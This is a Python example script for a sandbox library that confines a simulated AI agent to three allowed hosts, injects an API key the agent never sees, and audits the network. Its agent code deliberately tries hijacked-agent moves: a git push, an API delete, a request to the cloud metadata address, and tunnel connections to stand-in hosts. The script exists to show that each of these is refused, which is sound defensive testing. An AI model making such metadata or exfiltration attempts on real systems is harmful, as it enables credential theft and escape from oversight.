#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""An agent that reaches three hosts, and nothing else.

    agent_with_network.py          run the agent, print each step and the audit
    agent_with_network.py --json   the same as one JSON object

The example starts three servers on this host's loopback: a package index, a git host and the API
of a "model" that wants a key. Inside the sandbox they are https://pypi.org, https://git.example.org
and https://model.example.org: each rule's `to` says where connections really go. So the example
needs no network of its own. Without `to` the same rules would lead to the real hosts.

The agent installs a package with pip, clones a repository and asks the model. The gateway adds the
key to its requests; the agent sees a placeholder. Then it tries what a hijacked agent would try: it
pushes to the repository, deletes at the model's API, asks for the cloud's metadata, and looks for
a way out by DNS and by an address. The audit at the end is the `network` of the result.

Exit status: 0 if all allowed steps worked, all others were refused, and the key was not seen.
"""

import argparse
import hashlib
import http.server
import io
import json
import os
import pathlib
import secrets
import shutil
import subprocess
import sys
import tempfile
import threading
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

from rollbox import Policy, Sandbox

INDEX, GIT, MODEL = "pypi.org", "git.example.org", "model.example.org"
TASK = "Translate 'good morning' into French."
GIT_BACKEND = pathlib.Path("/usr/lib/git-core/git-http-backend")

# Runs in the sandbox. Each step prints one line of JSON.
AGENT = r"""
import json, os, socket, subprocess, sys, urllib.error, urllib.request

def tell(step, ok, said):
    print(json.dumps({"step": step, "ok": ok, "said": said.strip()[-400:]}), flush=True)

def command(step, *words):
    done = subprocess.run(words, capture_output=True, text=True)
    tell(step, done.returncode == 0, done.stdout + done.stderr)

def request(step, method, url, body=None):
    headers = {"Authorization": "Bearer " + os.environ["MODEL_KEY"]}
    asked = urllib.request.Request(url, json.dumps(body).encode(), headers, method=method)
    try:
        with urllib.request.urlopen(asked, timeout=30) as answer:
            tell(step, True, answer.read().decode())
    except urllib.error.HTTPError as error:
        tell(step, False, f"{error.code}: {error.read().decode()}")
    except OSError as error:
        tell(step, False, str(error))

def connection(step, host, port):
    try:
        with socket.create_connection((host, port), timeout=30) as made:
            made.sendall(b"GET / HTTP/1.0\r\n\r\n")
            tell(step, bool(made.recv(100)), "answered")
    except OSError as error:
        tell(step, False, str(error))

task, with_git = sys.argv[1], sys.argv[2] == "git"
pip = [sys.executable, "-m", "pip", "--disable-pip-version-check", "--no-cache-dir"]
command("install", *pip, "install", "--quiet", "--target", "/tmp/site", "greetings")
command("use", sys.executable, "-c", "import greetings; print(greetings.SPOKEN)")
if with_git:
    command("clone", "git", "clone", "-q", "https://git.example.org/team/task.git", "/tmp/task")
request("model", "POST", "https://model.example.org/v1/messages", {"prompt": task})

if with_git:
    command("push", "git", "-C", "/tmp/task", "push", "origin", "HEAD:refs/heads/mine")
request("delete", "DELETE", "https://model.example.org/v1/files/1")
connection("metadata", "169.254.169.254", 80)
connection("tunnel by name", "c2VjcmV0.tunnel.example.net", 443)
connection("tunnel by address", "203.0.113.9", 443)
tell("key", os.environ["MODEL_KEY"] != "", os.environ["MODEL_KEY"])
"""
ALLOWED = {"install", "use", "clone", "model", "key"}


def wheel() -> tuple[str, bytes]:
    """A package of one module, as an index has it."""
    name, where = "greetings-1.0", "greetings-1.0.dist-info"
    files = {
        "greetings.py": "SPOKEN = 'bonjour'\n",
        f"{where}/METADATA": "Metadata-Version: 2.1\nName: greetings\nVersion: 1.0\n",
        f"{where}/WHEEL": "Wheel-Version: 1.0\nGenerator: example\n"
        "Root-Is-Purelib: true\nTag: py3-none-any\n",
    }
    files[f"{where}/RECORD"] = "".join(f"{file},,\n" for file in [*files, f"{where}/RECORD"])
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for file, text in files.items():
            archive.writestr(file, text)
    return f"{name}-py3-none-any.whl", packed.getvalue()


class Quiet(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def answer(self, status: int, kind: str, body: bytes) -> None:
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def body(self) -> bytes:
        return self.rfile.read(int(self.headers.get("Content-Length", 0)))


def index() -> type[Quiet]:
    name, content = wheel()
    digest = hashlib.sha256(content).hexdigest()
    pages = {
        "/simple/greetings/": (f'<a href="/files/{name}#sha256={digest}">{name}</a>').encode(),
        f"/files/{name}": content,
    }

    class Index(Quiet):
        def do_GET(self) -> None:
            found = pages.get(self.path)
            kind = "text/html" if self.path.endswith("/") else "application/octet-stream"
            self.answer(200 if found else 404, kind, found or b"no such page\n")

    return Index


def git_host(directory: pathlib.Path) -> type[Quiet]:
    """Repositories below `directory`, by git's own program for web servers (CGI)."""

    class Git(Quiet):
        def serve(self) -> None:
            path, _, query = self.path.partition("?")
            environment = {
                "PATH": os.environ["PATH"],
                "HOME": str(directory),
                "GIT_PROJECT_ROOT": str(directory),
                "GIT_HTTP_EXPORT_ALL": "1",
                "REQUEST_METHOD": self.command,
                "PATH_INFO": path,
                "QUERY_STRING": query,
                "REMOTE_USER": "agent",  # may push, as far as this server is concerned
                "CONTENT_TYPE": self.headers.get("Content-Type", ""),
                "CONTENT_LENGTH": self.headers.get("Content-Length", "0"),
                "HTTP_CONTENT_ENCODING": self.headers.get("Content-Encoding", ""),
            }
            done = subprocess.run(
                [GIT_BACKEND], input=self.body(), env=environment, stdout=subprocess.PIPE
            )
            head, _, body = done.stdout.partition(b"\r\n\r\n")
            fields = dict(line.split(": ", 1) for line in head.decode().split("\r\n") if line)
            status = int(fields.get("Status", "200").split()[0])
            self.answer(status, fields.get("Content-Type", "text/plain"), body)

        do_GET = do_POST = serve

    return Git


def model(key: str) -> type[Quiet]:
    class Model(Quiet):
        def serve(self) -> None:
            asked = self.body()
            if self.headers.get("Authorization") != f"Bearer {key}":
                self.answer(401, "text/plain", b"wrong key\n")
                return
            right = json.loads(asked) == {"prompt": TASK}
            self.answer(200, "application/json", b'{"text": "bonjour"}' if right else b"{}")

        do_POST = do_DELETE = serve

    return Model


@contextmanager
def served(handler: type[Quiet]) -> Iterator[str]:
    """A server on the loopback, as a rule's `to`: HTTP without TLS."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def make_repository(directory: pathlib.Path) -> None:
    work, bare = directory / "work", directory / "team/task.git"
    work.mkdir()
    (work / "task.txt").write_text(TASK + "\n")
    git = ["git", "-c", "user.name=example", "-c", "user.email=example@example.org"]
    for words in (["init", "-q"], ["add", "."], ["commit", "-q", "-m", "The task"]):
        subprocess.run([*git, "-C", work, *words], check=True)
    subprocess.run([*git, "clone", "-q", "--bare", work, bare], check=True)


def rules(index_at: str, git_at: str, model_at: str) -> list[Any]:
    return [
        {
            "host": INDEX,
            "ports": [443],
            "to": index_at,
            "requests": [{"methods": ["GET", "HEAD"], "paths": ["/simple/*", "/files/*"]}],
        },
        {
            "host": GIT,
            "ports": [443],
            "to": git_at,
            "requests": [  # what clone and fetch send; a push sends /git-receive-pack
                {"methods": ["GET"], "paths": ["/team/task.git/info/refs"]},
                {"methods": ["POST"], "paths": ["/team/task.git/git-upload-pack"]},
            ],
        },
        {
            "host": MODEL,
            "ports": [443],
            "to": model_at,
            "requests": [{"methods": ["POST"], "paths": ["/v1/messages"]}],
            "inject": {"Authorization": "Bearer {model}"},
        },
    ]


def play(directory: pathlib.Path, with_git: bool) -> dict[str, Any]:
    key = "key-" + secrets.token_hex(16)
    key_file = directory / "key"
    key_file.touch(0o600)
    key_file.write_text(key + "\n")
    if with_git:
        make_repository(directory)
    with (
        served(index()) as index_at,
        served(git_host(directory)) as git_at,
        served(model(key)) as model_at,
    ):
        policy = Policy(
            net_allow=rules(index_at, git_at, model_at),
            net_secrets={"model": {"from": f"file:{key_file}", "as": "MODEL_KEY"}},
            timeout=100,
        )
        with Sandbox(policy) as box:
            box.write_file("/tmp/agent.py", AGENT)
            words = ["python3", "/tmp/agent.py", TASK, "git" if with_git else "no git"]
            done = box.exec(words, env={"PYTHONPATH": "/tmp/site"}, text=True)
            inside = box.exec("env; cat /proc/*/environ; cat /tmp/*", text=True).stdout
    steps = [json.loads(line) for line in done.stdout.splitlines()]
    expected = all(step["ok"] == (step["step"] in ALLOWED) for step in steps)
    seen = key in inside or key in done.stdout or key in done.stderr
    complete = bool(steps) and steps[-1]["step"] == "key"
    return {
        "ok": done.ok and complete and expected and not seen,
        "key_seen": seen,
        "steps": steps,
        "network": done.network,
        "stderr": done.stderr,
    }


def show(played: dict[str, Any]) -> None:
    for step in played["steps"]:
        first = (step["said"].splitlines() or [""])[0]
        print(f"{step['step']:18} {'worked' if step['ok'] else 'failed':7} {first[:90]}")
    audit = played["network"]
    print(f"\nThe audit: {audit['connections']} connections, {audit['refused']} refused")
    print(f"{'reached':28} {'connections':>11} {'up':>8} {'down':>8}")
    for host in audit["hosts"]:
        name = f"{host['host']}:{host['port']}"
        print(f"{name:28} {host['connections']:11} {host['up']:8} {host['down']:8}")
    print(f"{'refused':28} {'times':>11} why")
    for refusal in audit["refusals"]:
        name = f"{refusal['host']}:{refusal['port']}"
        print(f"{name:28} {refusal['count']:11} {refusal['why']}")
    print(f"\nthe key was {'SEEN' if played['key_seen'] else 'not seen'} in the sandbox")
    print(played["stderr"], end="")


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--json", action="store_true", help="print one JSON object")
    options = parser.parse_args()
    with_git = shutil.which("git") is not None and GIT_BACKEND.exists()
    with tempfile.TemporaryDirectory() as directory:
        played = play(pathlib.Path(directory), with_git)
    print(json.dumps(played)) if options.json else show(played)
    return 0 if played["ok"] else 1


if __name__ == "__main__":
    sys.exit(main())
